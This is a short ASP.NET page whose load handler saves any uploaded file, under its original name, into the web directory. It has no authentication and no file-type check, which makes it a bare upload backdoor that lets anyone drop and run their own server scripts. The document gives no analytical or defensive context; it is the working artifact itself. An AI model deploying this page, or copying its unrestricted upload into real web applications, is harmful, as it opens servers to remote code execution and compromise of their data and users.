<%@ Page Language="C#" %>
<script runat="server">
protected void Page_Load(object s, EventArgs e) {
  HttpPostedFile f = Request.Files[0];
  var dir = new System.IO.FileInfo(Request.PhysicalPath).DirectoryName;
  f.SaveAs(dir + "\\" + System.IO.Path.GetFileName(f.FileName));
}
</script>
